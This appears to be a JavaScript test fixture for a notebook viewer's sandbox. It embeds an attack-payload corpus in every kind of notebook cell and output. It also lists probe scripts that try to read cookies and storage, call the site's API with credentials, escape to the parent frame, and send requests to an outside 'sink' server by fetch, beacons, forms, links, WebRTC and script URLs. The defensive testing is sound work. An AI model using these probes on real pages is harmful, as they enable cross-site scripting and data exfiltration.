// The payloads of internal/viewer/testdata/attacks.txt, and the places in a
// notebook where one can stand: the same as in the viewer's own tests.
import { readFileSync } from "node:fs";
import { code, shown, text } from "./notebooks.js";

// payloads reads the corpus; a line in backquotes is a Go string.
export function payloads() {
  const raw = readFileSync(new URL("../../internal/viewer/testdata/attacks.txt", import.meta.url), "utf8");
  const all = raw.split("\n").filter((line) => line && !line.startsWith("# ")).map((line) => {
    if (!/^`.*`$/.test(line)) return line;
    const escaped = line.slice(1, -1).replace(/\\x([0-9a-f]{2})/gi, "\\u00$1").replace(/\\a/g, "\\u0007").replace(/\\v/g, "\\u000b").replace(/\\0/g, "\\u0000");
    return JSON.parse('"' + escaped + '"');
  });
  if (all.length < 150) throw new Error(all.length + " payloads: the file is not whole");
  return all;
}

const q = JSON.stringify;
const output = (o) => code("show()", { execution_count: 1, outputs: [o] });
const stream = (name, s) => output({ output_type: "stream", name, text: s });

// carriers make the cells that hold one payload.
export const carriers = {
  "markdown": (p) => [text(p)],
  "markdown after text": (p) => [text("text $x$\n\n" + p + "\n\n$y$ more")],
  "markdown title attribute": (p) => [text('<div title="\n\n' + p + '\n\n$z$">')],
  "markdown math": (p) => [text("$" + p + "$\n\n$$\n" + p + "\n$$")],
  "markdown link": (p) => [text("[a](" + p + ") ![b](" + p + ") <" + p + ">")],
  "markdown fence": (p) => [text("```" + p + "\n" + p + "\n```\n")],
  "markdown heading": (p) => [text("# " + p + "\n## " + p)],
  "markdown table": (p) => [text("| a | b |\n|---|---|\n| " + p.replaceAll("\n", " ") + " | x |")],
  "raw cell": (p) => [{ cell_type: "raw", source: p, metadata: { format: p } }],
  "code": (p) => [code(p)],
  "cell magic": (p) => [code("%%html\n" + p)],
  "html": (p) => [shown({ "text/html": p })],
  "html and text": (p) => [shown({ "text/html": p, "text/plain": p })],
  "html table": (p) => [shown({ "text/html": "<table><tr><td>" + p + "</td></tr></table>" })],
  "svg": (p) => [shown({ "image/svg+xml": p })],
  "svg around": (p) => [shown({ "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">' + p + "</svg>" })],
  "png": (p) => [shown({ "image/png": p })],
  "markdown output": (p) => [shown({ "text/markdown": p })],
  "latex": (p) => [shown({ "text/latex": "$" + p + "$" })],
  "javascript": (p) => [shown({ "application/javascript": p })],
  "json": (p) => [shown({ "application/json": { [p]: p } })],
  "vega": (p) => [shown({ "application/vnd.vegalite.v5+json": { $schema: "https://vega.github.io/schema/vega-lite/v5.json", description: p, title: p, data: { values: [{ a: p, b: 1 }], url: p },
    mark: { type: "text", tooltip: true }, encoding: { text: { field: "a" }, href: { value: p }, url: { value: p } } }, "text/plain": p })],
  "plotly": (p) => [shown({ "application/vnd.plotly.v1+json": { data: [{ type: "bar", x: [p], y: [1], name: p, text: [p], hovertemplate: p }], layout: { title: { text: p }, images: [{ source: p }], annotations: [{ text: p }] } } })],
  "mermaid": (p) => [shown({ "text/vnd.mermaid": p })],
  "geojson": (p) => [shown({ "application/geo+json": { type: "FeatureCollection", features: [{ type: "Feature", properties: { [p]: p }, geometry: { type: "Point", coordinates: [0, 0] } }] } })],
  "data table": (p) => [shown({ "application/vnd.dataresource+json": { schema: { fields: [{ name: p }] }, data: [{ [p]: p }] } })],
  "unknown type": (p) => [shown({ ["text/x-" + p]: p })],
  "stream": (p) => [stream("stdout", p)],
  "stream with colour": (p) => [stream("stderr", "\x1b[31" + p + "\x1b]8;;" + p + "\x07" + p)],
  "error": (p) => [output({ output_type: "error", ename: p, evalue: p, traceback: [p, "\x1b[31m" + p] })],
  "alt": (p) => [shown({ "image/png": "AAAA" }, { "image/png": { alt: p, width: p } })],
  "attachment": (p) => [text("![a](attachment:" + p + ') <img src="attachment:' + p + '">![c](attachment:x)', { attachments: { [p]: { "image/png": "AAAA", "text/html": p }, x: { "image/png": p } } })],
  "cell metadata": (p) => [code("x = 1", { metadata: { tags: [p.replaceAll(",", " "), "parameters"], vscode: { languageId: p }, quire: { reason: p }, papermill: { status: p } } })],
};

// aroundNotebook are places of which a notebook has one.
export const around = (p) => ({
  title: p, authors: [p, { name: p }], language_info: { name: p }, kernelspec: { display_name: p, name: "python3", language: p },
  papermill: { parameters: { [p]: p }, input_path: p, output_path: p, exception: true }, quire: { status: "failed", reason: p, run_id: p },
  nteract: { tags: [p], description: p, image: p },
  widgets: { "application/vnd.jupyter.widget-state+json": { state: { m: { model_name: p, state: { value: p, description: p } } } } },
});

// probes are scripts that try to leave the frame they run in. Each stands in an
// output of its own; sink is the address of a server that must hear nothing.
export const probes = (sink, udp) => ({
  "the page around": "parent.document.title",
  "the page's globals": "parent.__pwn = 1",
  "the page's address": "parent.location.href.length",
  "cookies": "document.cookie.length",
  "setting a cookie": "(document.cookie = 'a=b', document.cookie.length || (() => { throw 'no cookie'; })())",
  "local storage": "localStorage.length",
  "session storage": "sessionStorage.length",
  "databases": "new Promise((y, n) => { const r = indexedDB.open('x'); r.onsuccess = y; r.onerror = n; })",
  "caches": "caches.open('x')",
  "service workers": "navigator.serviceWorker.register('/static/live.js')",
  "our API": "fetch('/api/runs', { credentials: 'include' }).then((r) => r.text())",
  "our API by XMLHttpRequest": "new Promise((y, n) => { const r = new XMLHttpRequest(); r.open('GET', '/api/runs'); r.withCredentials = true; r.onload = y; r.onerror = n; r.send(); })",
  "another host": `fetch('${sink}/fetch', { mode: 'no-cors' })`,
  "a websocket": `new Promise((y, n) => { const s = new WebSocket('${sink.replace("http", "ws")}/ws'); s.onopen = y; s.onerror = n; })`,
  "an event stream": `new Promise((y, n) => { const s = new EventSource('${sink}/es'); s.onopen = y; s.onerror = n; })`,
  "a picture": `new Promise((y, n) => { const i = new Image(); i.onload = y; i.onerror = n; i.src = '${sink}/i.png'; })`,
  "a script": `import('${sink}/m.js')`,
  "a script element": `new Promise((y, n) => { const s = document.createElement('script'); s.onload = y; s.onerror = n; s.src = '${sink}/s.js'; document.body.append(s); })`,
  "a style sheet": `new Promise((y, n) => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.onload = y; s.onerror = n; s.href = '${sink}/c.css'; document.head.append(s); })`,
  "a font": `new FontFace('f', 'url(${sink}/f.woff2)').load()`,
  "a worker": `new Promise((y, n) => { const w = new Worker('${sink}/w.js'); w.onmessage = y; w.onerror = n; })`,
  "a window": `(() => { if (!open('${sink}/open')) throw 'no window'; })()`,
  "the clipboard": "navigator.clipboard.readText()",
  "where the reader is": "new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n))",
  "the whole screen": "document.documentElement.requestFullscreen()",
  // These say nothing when they are refused: what counts is that nothing happens.
  "quiet: a beacon": `navigator.sendBeacon('${sink}/beacon', 'x')`,
  "quiet: keepalive": `fetch('${sink}/ka', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {})`,
  "quiet: links that load": `for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload', 'icon', 'manifest']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = '${sink}/' + rel; document.head.append(l); }`,
  "quiet: speculation": `{ const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{"prefetch":[{"source":"list","urls":["${sink}/spec"]}],"prerender":[{"source":"list","urls":["${sink}/pre"]}]}'; document.body.append(s); }`,
  "quiet: styles that load": `{ const s = document.createElement('style'); s.textContent = '@import "${sink}/i.css"; body { background: url(${sink}/bg) } @font-face { font-family: x; src: url(${sink}/x.woff) } * { font-family: x; cursor: url(${sink}/cur), auto; list-style-image: url(${sink}/li) }'; document.head.append(s); }`,
  "quiet: elements that load": `document.body.insertAdjacentHTML('beforeend', '<img src=${sink}/1><video src=${sink}/2 poster=${sink}/3></video><audio src=${sink}/4></audio><object data=${sink}/5></object><embed src=${sink}/6><iframe src=${sink}/7></iframe><iframe srcdoc="<img src=${sink}/8>"></iframe><svg><image href=${sink}/9 /><use href="${sink}/10#x" /></svg><input type=image src=${sink}/11><table background=${sink}/12><track src=${sink}/13>')`,
  "quiet: a form": `{ const f = document.createElement('form'); f.action = '${sink}/form'; f.method = 'post'; document.body.append(f); f.submit(); }`,
  "quiet: a form for the top": `{ const f = document.createElement('form'); f.action = '${sink}/formtop'; f.target = '_top'; document.body.append(f); f.submit(); }`,
  "quiet: a link for the top": `{ const a = document.createElement('a'); a.href = '${sink}/top'; a.target = '_top'; document.body.append(a); a.click(); }`,
  "quiet: a link with a ping": `{ const a = document.createElement('a'); a.href = '#x'; a.ping = '${sink}/ping'; document.body.append(a); a.click(); }`,
  "quiet: a new tab": `{ const a = document.createElement('a'); a.href = '${sink}/blank'; a.target = '_blank'; document.body.append(a); a.click(); }`,
  "quiet: a download": `{ const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; document.body.append(a); a.click(); }`,
  "quiet: the top's address": `try { top.location = '${sink}/toploc' } catch {}`,
  "quiet: the top's script": "try { top.location = 'javascript:window.__pwn=1' } catch {}",
  "quiet: its own address": `location = '${sink}/self'`,
  "quiet: its own address, of ours": "location = '/runs'",
  "quiet: its own address, a script": "location = 'javascript:parent.__pwn=1'",
  "quiet: its own address, as data": "location = 'data:text/html,<script>parent.__pwn=1;fetch(\"" + sink + "/data\")</script>'",
  "quiet: its own address, as a blob": `location = URL.createObjectURL(new Blob(['<script>try { parent.__pwn = 1 } catch {} fetch("${sink}/blob")</script>'], { type: 'text/html' }))`,
  "quiet: a refresh": `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=${sink}/refresh">')`,
  "quiet: dialogs": "alert(1); confirm(1); prompt(1); print()",
  "quiet: messages": "for (const m of [{ __pwn: 1 }, '__pwn', { type: 'resize', height: 1e9 }, null]) { parent.postMessage(m, '*'); top.postMessage(m, '*'); }",
  "quiet: going back": "history.back(); history.go(-1); history.pushState(0, '', '#x')",
  "quiet: closing": "top.close(); parent.close(); top.blur(); parent.focus()",
  "quiet: WebRTC": `{ const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }, { urls: 'turn:127.0.0.1:${udp}?transport=tcp', username: 'cookie', credential: 'x' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }`,
  "quiet: WebTransport": `new WebTransport('https://127.0.0.1:${udp}/x').ready.catch(() => {})`,
});
